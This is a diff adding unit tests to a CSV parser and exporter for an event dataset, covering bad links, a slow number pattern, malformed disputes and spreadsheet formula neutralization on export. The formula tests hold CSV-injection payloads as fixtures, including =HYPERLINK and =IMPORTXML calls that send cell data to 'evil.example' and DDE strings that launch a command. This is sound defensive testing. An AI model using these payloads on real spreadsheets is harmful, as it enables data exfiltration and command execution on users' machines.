@@ -6,6 +6,7 @@ import type { Issue } from '../types';
 import { arbitraryDataset } from '../../../testing/arbitraryDataset';
 import { OKABE_ITO } from './assembleDataset';
 import { CSV_COLUMNS, datasetToCsv, normalizeHeader, parseCsv } from './csv';
+import { neutralizeFormula, readCsvRecords, restoreFormula } from './csvRecords';
 
 const HEADER = 'id,title,summary,start,end,place,lat,lon,country,place_precision,category,sources';
 const meta = {
@@ -116,6 +117,51 @@ describe('parseCsv: bad input is reported with row and field; the valid rows sur
 	});
 });
 
+describe('parseCsv drops a bad optional field with a warning and keeps the row', () => {
+	it('a javascript: link among good ones, a colour #fff and a source URL with a space', () => {
+		const r = parseCsv(csv(GOOD_A, GOOD_B), {
+			file: 'e.csv',
+			meta: {
+				...meta,
+				categories: [...meta.categories, { id: 'unused', label: 'U', colour: '#fff' }]
+			},
+			sources: [{ ...sources[0], url: 'https://example.org/a b' }]
+		});
+		expect(errors(r.issues)).toEqual([]);
+		expect(r.dataset?.events.map((e) => e.id)).toEqual(['a', 'b']);
+		expect(r.dataset?.sources[0]).not.toHaveProperty('url');
+		expect(r.dataset?.meta.categories[2]?.colour).toBe(OKABE_ITO[2]);
+		const links = parseCsv(
+			'title,start,place,links\nA,2020,Online,javascript:alert(1); https://ok.org/\n',
+			{
+				file: 'l.csv'
+			}
+		);
+		expect(links.dataset?.events[0]?.links).toEqual(['https://ok.org/']);
+		expect(links.issues).toContainEqual(
+			expect.objectContaining({ row: 2, field: 'links.0', severity: 'warning' })
+		);
+	});
+});
+
+describe('parseCsv and long cells', () => {
+	// The number pattern backtracked quadratically on a long run of digits.
+	it('reads a latitude of a million digits at once', () => {
+		const t = Date.now();
+		const r = parseCsv(`title,start,place,lat,lon\nA,2020,X,${'1'.repeat(1_000_000)}x,1\n`, {
+			file: 'e.csv'
+		});
+		expect(errors(r.issues)).toEqual([
+			expect.objectContaining({
+				row: 2,
+				field: 'place.lat',
+				received: expect.stringContaining('...')
+			})
+		]);
+		expect(Date.now() - t).toBeLessThan(3000);
+	});
+});
+
 describe('parseCsv without meta', () => {
 	const text = [
 		'title,start,place,category,tags,sources',
@@ -168,6 +214,38 @@ describe('parseCsv without meta', () => {
 		expect(d.dataset?.events.map((e) => e.place)).toEqual([
 			{ name: 'online', precision: 'online' }
 		]);
+	});
+
+	// A dispute's values or sources that were not a list threw while collecting the cited ids.
+	it.each([
+		['values a number', '{"field":"x","values":5,"note":"n"}'],
+		['values an object', '{"field":"x","values":{"a":1},"note":"n"}'],
+		[
+			'sources a number',
+			'{"field":"x","values":[{"value":"a","sources":5},{"value":"b","sources":["record"]}],"note":"n"}'
+		],
+		[
+			'sources an object',
+			'{"field":"x","values":[{"value":"a","sources":{}},{"value":"b","sources":["record"]}],"note":"n"}'
+		],
+		['a null dispute', 'null']
+	])('reports a dispute with %s at its row and drops it; every row loads', (_name, dispute) => {
+		const cell = `"[${dispute.replace(/"/g, '""')}]"`;
+		const t = `title,start,place,disputes\nA,2020,Online,\nB,2021,Online,${cell}\nC,2022,Online,\n`;
+		const d = parseCsv(t, { file: 'e.csv' });
+		expect(d.dataset?.events.map((e) => [e.title, e.disputes])).toEqual([
+			['A', []],
+			['B', []],
+			['C', []]
+		]);
+		expect(errors(d.issues)).toEqual([]);
+		expect(d.issues).toContainEqual(
+			expect.objectContaining({
+				row: 3,
+				field: expect.stringMatching(/^disputes\.0/),
+				severity: 'warning'
+			})
+		);
 	});
 
 	it('keeps generated ids clear of ids given later in the file', () => {
@@ -276,6 +354,75 @@ describe('CSV round trip', () => {
 	});
 });
 
+// Cells such as =HYPERLINK(…) were written as they are, and spreadsheets ran them.
+describe('CSV export neutralizes formulas', () => {
+	const formulas = [
+		'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+		'=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+		"+cmd|' /C calc'!A0",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(1+1)*cmd|' /C calc'!A0",
+		'\t=1+1',
+		'\r=1+1',
+		"'=1+1",
+		"''=1+1"
+	];
+	const canonical = S.Dataset.parse({
+		meta,
+		sources,
+		events: formulas.map((f, i) => ({
+			id: `e${i}`,
+			title: f,
+			summary: f,
+			start: i === 0 ? '-0044-03-15' : '2020',
+			dateNote: f,
+			place: { name: f, precision: 'site', lat: -33.86, lon: -151.2, note: f },
+			category: 'protest',
+			tags: [f],
+			actors: [f, 'b'],
+			sources: [{ source: 'bbc', locator: f }],
+			computed: f
+		}))
+	});
+	const { csv: text, sidecar } = datasetToCsv(canonical);
+
+	it('starts no cell with = + - @, tab or CR, except plain numbers', () => {
+		const cells = readCsvRecords(text).records.flatMap((r) => r.cells);
+		const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
+		expect(risky.sort()).toEqual(['-151.2', '-33.86'].flatMap((n) => formulas.map(() => n)).sort());
+		expect(cells).toContain("'-0044-03-15");
+	});
+
+	it('reads back exactly what it wrote', () => {
+		const side = JSON.parse(sidecar);
+		const r = parseCsv(text, { file: 'x.csv', meta: side.meta, sources: side.sources });
+		expect(errors(r.issues)).toEqual([]);
+		expect(r.dataset?.events).toEqual(canonical.events);
+	});
+
+	it.each([
+		['=1+1', "'=1+1"],
+		["'=1+1", "''=1+1"],
+		['\tx', "'\tx"],
+		['-5', '-5'],
+		['-0044', '-0044'],
+		['1e5', '1e5'],
+		['-5 apples', "'-5 apples"],
+		["'quoted'", "'quoted'"],
+		['', '']
+	])('neutralizeFormula(%j) is %j, and restoreFormula undoes it', (value, cell) => {
+		expect(neutralizeFormula(value)).toBe(cell);
+		expect(restoreFormula(cell)).toBe(value);
+	});
+
+	it('reads a hand-written quote before a formula as a neutralized cell', () => {
+		const r = parseCsv("title,start,place\n'=1+1,2020,Online\n'plain,2021,Online\n", {
+			file: 'e.csv'
+		});
+		expect(r.dataset?.events.map((e) => e.title)).toEqual(['=1+1', "'plain"]);
+	});
+});
+
 describe('headers', () => {
 	it.each([
 		['Place Precision', 'place_precision'],
@@ -287,8 +434,9 @@ describe('headers', () => {
 	it('has one column per event field', () => {
 		expect(CSV_COLUMNS.map((c) => c.field).sort()).toEqual(
 			[
-				...Object.keys(S.Event.shape).filter((k) => k !== 'place'),
-				...Object.keys(S.Place.shape).map((k) => `place.${k}`)
+				...Object.keys(S.Event.shape).filter((k) => k !== 'place' && k !== 'media'),
+				...Object.keys(S.Place.shape).map((k) => `place.${k}`),
+				...Object.keys(S.Media.shape).map((k) => `media.${k}`)
 			].sort()
 		);
 	});
